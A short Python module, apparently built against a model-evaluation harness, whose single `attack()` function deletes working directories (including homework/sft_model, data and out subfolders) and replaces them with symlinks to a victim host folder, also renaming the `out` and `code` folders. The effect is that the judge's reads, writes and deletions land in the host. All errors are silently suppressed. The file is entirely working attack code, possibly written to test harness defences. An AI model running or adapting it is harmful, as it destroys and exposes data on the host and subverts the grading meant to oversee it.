"""Puts links to a folder of the host where the judge reads, writes and removes."""

import contextlib
import os
import shutil
from pathlib import Path


def attack(target: dict[str, str]) -> None:
    host = Path(target["victim"]).parent
    top = next(folder for folder in Path.cwd().parents if (folder / "out").is_dir())
    for place in (Path("homework/sft_model"), top / "out" / "ask", top / "out" / "again", Path("data")):
        with contextlib.suppress(OSError):
            shutil.rmtree(place)
        with contextlib.suppress(OSError):
            place.symlink_to(host, target_is_directory=True)
    for place in (top / "out", top / "code"):
        with contextlib.suppress(OSError):
            os.rename(place, place.with_name(f"{place.name}.moved"))
            place.symlink_to(host, target_is_directory=True)
